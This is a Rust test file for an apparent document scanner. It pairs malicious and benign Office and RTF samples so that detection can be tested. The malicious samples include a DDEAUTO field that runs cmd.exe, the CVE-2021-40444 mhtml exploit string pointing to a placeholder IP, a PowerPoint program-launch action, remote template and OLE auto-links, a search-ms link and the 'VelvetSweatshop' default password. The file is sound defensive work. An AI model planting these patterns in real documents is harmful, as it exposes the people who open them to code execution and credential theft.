//! Samples of links to elsewhere.

use palisade_formats::document::samples::{Entry, compound_tree, encrypted_package};

use super::super::Case;
use super::build::{document, field, linked, package, slide, url_moniker};
use super::case;

/// The form of CVE-2021-40444, put together here so that no scanner of sources trips over it.
fn chained() -> String {
    let page = "http://192.0.2.1/a.html";
    format!("{}{page}!{}{page}", "mhtml:", "x-usc:")
}

pub(super) fn cases() -> Vec<Case> {
    vec![
        case(
            "dde-command",
            "a.docx",
            || field(r#" DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" "#),
            || field(r#" DDEAUTO excel "C:\\figures\\march.xlsx" Sheet1!R1C1 "#),
        ),
        case(
            "dde-link",
            "a.docx",
            || field(r#" DDE excel "C:\\figures\\march.xlsx" Sheet1!R1C1 "#),
            || field(" REF _Ref1234 \\h "),
        ),
        case(
            "remote-template",
            "a.docx",
            || linked("attachedTemplate", "http://example.com/letter.dotm"),
            || linked("attachedTemplate", "https://company.sharepoint.com/letter.dotx"),
        ),
        case(
            "template-link",
            "a.docx",
            || linked("attachedTemplate", "file:///\\\\server\\templates\\letter.dotx"),
            || linked("attachedTemplate", "file:///C:\\templates\\letter.dotx"),
        ),
        case(
            "remote-object",
            "a.docx",
            || linked("oleObject", "http://example.com/page.html!"),
            || linked("oleObject", "https://example.com/figures.xlsx!Sheet1!R1C1"),
        ),
        case(
            "object-link",
            "a.docx",
            || linked("oleObject", "https://example.com/figures.xlsx!Sheet1!R1C1"),
            || linked("oleObject", "file:///C:\\figures.xlsx"),
        ),
        case(
            "mhtml-exploit",
            "a.docx",
            || linked("oleObject", &chained()),
            || linked("oleObject", "mhtml:http://example.com/page.mht"),
        ),
        case(
            "remote-image",
            "a.docx",
            || linked("image", "http://example.com/logo.png"),
            || linked("hyperlink", "http://example.com/logo.png"),
        ),
        case(
            "share-link",
            "a.docx",
            || linked("image", "file://server/pictures/logo.png"),
            || linked("image", "file:///C:/pictures/logo.png"),
        ),
        case(
            "share-on-internet",
            "a.docx",
            || linked("image", "\\\\192.0.2.1\\pictures\\logo.png"),
            || linked("image", "\\\\10.0.0.7\\pictures\\logo.png"),
        ),
        case(
            "dangerous-protocol",
            "a.docx",
            || linked("hyperlink", "search-ms:query=report&amp;crumb=location:example"),
            || linked("hyperlink", "mailto:somebody@example.com"),
        ),
        case(
            "field-include",
            "a.docx",
            || field(r#" INCLUDETEXT "http://example.com/part.docx" "#),
            || field(r#" INCLUDETEXT "C:\\parts\\part.docx" "#),
        ),
        case(
            "run-program-action",
            "a.pptx",
            || slide("hlinkClick", "ppaction://program", "calc.exe"),
            || slide("hlinkClick", "ppaction://hlinksldjump", "slide2.xml"),
        ),
        case(
            "hover-link",
            "a.pptx",
            || slide("hlinkMouseOver", "", "http://example.com/"),
            || slide("hlinkClick", "", "http://example.com/"),
        ),
        case(
            "package-disagrees",
            "a.docx",
            || {
                let mut members =
                    super::build::package_members(&[("word/document.xml", &document("Text"))]);
                let last = members.len() - 1;
                let member = &mut members[last];
                member.local = Some((
                    b"word/another0.xml".to_vec(),
                    member.method,
                    member.data.len() as u32,
                    member.size,
                ));
                palisade_formats::samples::zip_members(&members)
            },
            // A writer that streams leaves sizes to a descriptor.
            || {
                let mut members =
                    super::build::package_members(&[("word/document.xml", &document("Text"))]);
                for member in &mut members {
                    member.descriptor = true;
                }
                palisade_formats::samples::zip_members(&members)
            },
        ),
        case(
            "rtf-auto-link",
            "a.rtf",
            || {
                let link = compound_tree(
                    [0; 16],
                    &[Entry::Stream("\u{1}Ole", &url_moniker("http://example.com/a.doc"))],
                );
                super::build::rtf_object(
                    "{\\rtf1",
                    "\\objupdate",
                    &super::build::ole1("OLE2Link", &link),
                    "",
                )
            },
            || {
                let link = compound_tree(
                    [0; 16],
                    &[Entry::Stream("\u{1}Ole", &url_moniker("C:\\figures.xlsx"))],
                );
                super::build::rtf_object(
                    "{\\rtf1",
                    "\\objupdate",
                    &super::build::ole1("OLE2Link", &link),
                    "",
                )
            },
        ),
        case(
            "default-password",
            "a.xlsx",
            || encrypted_package("VelvetSweatshop", &package(&[])),
            || encrypted_package("chosen by a person", &package(&[])),
        ),
        case(
            "encrypted-document",
            "a.docx",
            || {
                palisade_formats::document::samples::compound(&[
                    ("EncryptionInfo", b"\x02\0\x02\0"),
                    ("EncryptedPackage", &[0; 64]),
                ])
            },
            || package(&[("word/document.xml", &document("Text"))]),
        ),
    ]
}
